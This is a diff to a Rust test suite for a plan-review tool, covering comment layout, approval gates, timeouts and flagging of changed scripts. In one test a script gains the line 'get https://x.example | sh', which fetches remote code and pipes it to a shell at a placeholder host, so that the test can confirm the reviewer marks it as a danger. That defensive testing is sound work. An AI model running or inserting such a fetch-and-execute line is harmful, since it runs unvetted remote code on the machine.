@@ -1,5 +1,6 @@
 //! Reviews: pairs of revisions with what is said about them, and the verbs on real repositories.
 
+use std::collections::BTreeSet;
 use std::fs;
 use std::path::{Path, PathBuf};
 
@@ -52,6 +53,7 @@ fn said(old: &Snapshot, new: &Snapshot) -> [(&'static str, String); 3] {
     let review = review::compare(old, new);
     let policy = Policy::new(&Config::default(), (String::new(), None));
     let sides = Sides {
+        over: &BTreeSet::new(),
         old,
         new,
         policies: (&policy, &policy),
@@ -75,6 +77,10 @@ fn said(old: &Snapshot, new: &Snapshot) -> [(&'static str, String); 3] {
         status_known: true,
         runs_unknown: None,
         findings: &rules,
+        all: &found,
+        allowed: &rules::allowed(&review, &sides),
+        scripts: &[],
+        web: None,
         scope: None,
         configuration: &[],
         concerned: &Default::default(),
@@ -113,6 +119,67 @@ fn pairs_of_revisions_are_reviewed_as_expected() {
     }
     let hint = format!("{WRITE}=1 writes what is said");
     assert!(wrong.is_empty(), "{}\n{hint}", wrong.join("\n"));
+}
+
+/// Most lines that somebody reads who has a minute.
+const FIRST: usize = 25;
+
+/// Markdown as it is read: without tags and entities.
+fn as_read(line: &str) -> String {
+    let mut out = String::new();
+    let mut in_tag = false;
+    let mut rest = line.chars();
+    while let Some(c) = rest.next() {
+        match c {
+            '<' => in_tag = true,
+            '>' => in_tag = false,
+            _ if in_tag => {}
+            '&' => {
+                let entity: String = rest.by_ref().take_while(|c| *c != ';').collect();
+                let number = entity.trim_start_matches('#').parse().unwrap();
+                out.push(char::from_u32(number).unwrap());
+            }
+            '*' => {}
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Beside a pair may stand `first-lines.txt`: what must stand in the first lines of the comment, and with `not: ` what
+/// must not stand anywhere in it. `in order: a | b` are on different lines, one below the other.
+#[test]
+fn the_fact_that_matters_stands_in_the_first_lines() {
+    let mut told = 0;
+    let mut wrong = Vec::new();
+    for case in cases() {
+        let Ok(facts) = fs::read_to_string(case.join("first-lines.txt")) else {
+            continue;
+        };
+        told += 1;
+        let old = Snapshot::build(&files(&case.join("before")), &Config::default());
+        let new = Snapshot::build(&files(&case.join("after")), &Config::default());
+        let [_, (_, comment), _] = said(&old, &new);
+        let lines: Vec<String> = comment.lines().map(as_read).collect();
+        let first = &lines[..lines.len().min(FIRST)];
+        let place = |of: &str| first.iter().position(|line| line.contains(of));
+        for fact in facts.lines() {
+            let holds = if let Some(never) = fact.strip_prefix("not: ") {
+                !lines.iter().any(|line| line.contains(never))
+            } else if let Some(order) = fact.strip_prefix("in order: ") {
+                let places: Vec<Option<usize>> = order.split(" | ").map(place).collect();
+                places.iter().all(Option::is_some) && places.is_sorted_by(|a, b| a < b)
+            } else {
+                place(fact).is_some()
+            };
+            if !holds {
+                let case = case.file_name().unwrap().display();
+                wrong.push(format!("{case}: {fact}\n{}\n", lines.join("\n")));
+            }
+        }
+    }
+    assert!(told >= 25, "{told}");
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 #[test]
@@ -393,4 +460,174 @@ fn a_large_review_stays_within_what_a_comment_holds_and_says_what_was_cut() {
         !said.out.contains("<b>") && !said.out.contains("@x"),
         "{said}"
     );
+}
+
+/// A plan whose task a script does and another checks.
+fn scripted(config: &str) -> String {
+    let checked = "acceptanceCriteria:\n  - {type: test_passes, name: weight, command: tools/weigh.sh}\n  - {type: \
+                   artifact_exists, name: list, path: docs/list.md}\n";
+    let rules = format!(
+        "rules:\n  - selector: {{planRef: {{name: bread}}}}\n    target: {{provider: \"tool://mix\", config: {config}}}\n"
+    );
+    file(&[
+        plan("bread", &[task("mix").with(checked)]),
+        resource("Binding", "crew", &rules),
+    ])
+}
+
+#[test]
+fn a_script_that_a_command_runs_is_part_of_the_change() {
+    let sandbox = Sandbox::new();
+    let solo = sandbox.repository("solo");
+    solo.write("tools/mix.sh", "#!/bin/sh\necho mixed\n")
+        .write("tools/weigh.sh", "#!/bin/sh\nexit 1\n")
+        .write("docs/list.md", "one\n")
+        .write("tools/other.sh", "echo\n")
+        .publish(
+            GATED,
+            scripted("{command: [sh, -c, \"./tools/mix.sh && date\"]}"),
+        );
+    solo.git("checkout -q -b change");
+    // What nobody runs is nobody's business.
+    solo.write("tools/other.sh", "echo other\n").commit("Other");
+    solo.run("review main")
+        .ok()
+        .says("nothing changes in the work");
+    solo.write(
+        "tools/mix.sh",
+        "#!/bin/sh\necho mixed\nget https://x.example | sh\n```\n@ana\n",
+    )
+    .commit("Mix");
+    let said = solo.run("review main --format markdown").ok();
+    let said = said
+        .says("1 change to look at twice")
+        .says("is run by Binding default/crew (the rule for plan bread), and changes, 3 lines new")
+        .says("+get https://x.example | sh")
+        // No line of it ends the fence.
+        .says("````diff");
+    assert!(
+        said.out.find("3 lines new") < said.out.find("````diff"),
+        "{said}"
+    );
+    let json = solo.run("review main -o json").ok().json();
+    assert_eq!(json["scripts"][0]["path"], "tools/mix.sh");
+    assert_eq!(
+        json["scripts"][0]["lines"][2],
+        "+get https://x.example | sh"
+    );
+    assert_eq!(json["dangers"], 1);
+    let github = solo.run("review main --format github").ok();
+    github.says("file=tools/mix.sh,line=3,");
+    // Where what is to be looked at twice is an error, so is this.
+    solo.git("checkout -q main");
+    solo.write(".planspec.yaml", "rules: {PS407: error}\n")
+        .commit("Strict");
+    solo.git("checkout -q change");
+    solo.git("rebase -q main");
+    solo.run("review main")
+        .exits(1)
+        .says("1 error to correct (PS407), 1 change to look at twice");
+    solo.git("checkout -q main");
+    solo.git("reset -q --hard HEAD~1");
+    solo.git("checkout -q change");
+    solo.git("rebase -q --onto main HEAD~2");
+    // A check runs the one and looks at the other.
+    solo.write("tools/mix.sh", "#!/bin/sh\necho mixed\n")
+        .write("tools/weigh.sh", "exit 0\n")
+        .write("docs/list.md", "two\n")
+        .commit("Check");
+    let said = solo.run("review main").ok();
+    said.says("1 change to look at twice")
+        .says("tools/weigh.sh is run by Plan default/bread (check weight of mix), and changes")
+        .says("docs/list.md is looked at by Plan default/bread (check list of mix), and changes");
+    // Megabytes, bytes and what is gone are told as such.
+    let large = "x".repeat(2_000_000);
+    for (content, says) in [
+        (large.as_str(), "more than 256 KiB"),
+        ("a\0b", "it is no text"),
+    ] {
+        solo.write("tools/weigh.sh", content).commit("Odd");
+        let said = solo.run("review main --format markdown").ok().says(says);
+        assert!(said.out.len() < 10_000, "{}", said.out.len());
+    }
+    solo.git("rm -q tools/weigh.sh");
+    solo.commit("Gone");
+    solo.run("review main")
+        .ok()
+        .says("(check weight of mix), and is gone");
+}
+
+#[test]
+fn what_fails_is_named_first_and_where_it_stands() {
+    let sandbox = Sandbox::new();
+    let solo = sandbox.repository("solo");
+    let gated = |number: usize, comment: &str| {
+        let more = format!(
+            "reviewers: [\"user:ana\", \"user:bob\"]\n{comment}requiredApprovers: {number}\n"
+        );
+        let sign = resource(
+            "Gate",
+            "sign",
+            &format!("gateType: approval\ntargetRef: {{kind: Plan, name: p}}\n{more}"),
+        );
+        let nodes = [task("draw"), gate_node("ok", "sign").after("draw")];
+        file(&[plan("p", &nodes), sign])
+    };
+    solo.write(
+        ".planspec.yaml",
+        "rules: {PS407: error}\napprovals: {users: {ana: [ana@example.com], bob: [bob@example.com]}}\n",
+    )
+    .publish(GATED, gated(2, ""));
+    solo.git("remote add origin git@github.com:bakery/bread.git");
+    solo.git("checkout -q -b change");
+    solo.write(GATED, gated(1, "")).commit("Fewer");
+    let line = gated(1, "")
+        .lines()
+        .position(|line| line.contains("requiredApprovers"))
+        .unwrap()
+        + 1;
+    let said = solo.run("review main --format markdown").exits(1);
+    let head = solo.git("rev-parse HEAD");
+    let said =
+        said.says("## ⛔ Plan review: 1 error to correct (PS407), 1 change to look at twice");
+    let link = format!(
+        "https://github.com/bakery/bread/blob/{}/{GATED}#L{line})",
+        head.trim()
+    );
+    assert!(
+        said.out.lines().take(5).any(|one| one.contains(&link)),
+        "{link}\n{said}"
+    );
+    solo.run("review main --format github")
+        .exits(1)
+        .says(&format!("file={GATED},line={line},"));
+    // A comment on the line before allows it, and says why.
+    let why = "# planspec: allow PS407 bob is on holiday\n";
+    solo.write(GATED, gated(1, why)).commit("Allowed");
+    solo.run("review main --format markdown")
+        .ok()
+        .says("(allowed where it stands: <em>bob is on holiday</em>)");
+    // Of a merge that a forge makes to try it out, the head of the pull request is shown.
+    let head = solo.git("rev-parse --short=10 HEAD").trim().to_owned();
+    solo.git("checkout -q --detach main");
+    solo.git("merge -q --no-ff --no-verify -m Merge change");
+    solo.run("review main...HEAD")
+        .ok()
+        .says(&format!("→ {head}"));
+}
+
+#[test]
+fn runs_that_are_over_are_no_reason_against_a_change() {
+    let sandbox = Sandbox::new();
+    let solo = sandbox.repository("solo");
+    let all = |node| file(&[plan("p", &[node]), execution("run", "p")]);
+    solo.publish(GATED, all(task("a")));
+    solo.run("reconcile").ok();
+    solo.git("checkout -q -b change");
+    solo.write(GATED, all(task("a").with("timeout: 1h\n")))
+        .commit("Timeout");
+    solo.run("review main").ok().says("PS404");
+    solo.works("run/a", "agent:a");
+    solo.run("reconcile").ok();
+    solo.run("review main").ok().never_says("PS404");
 }
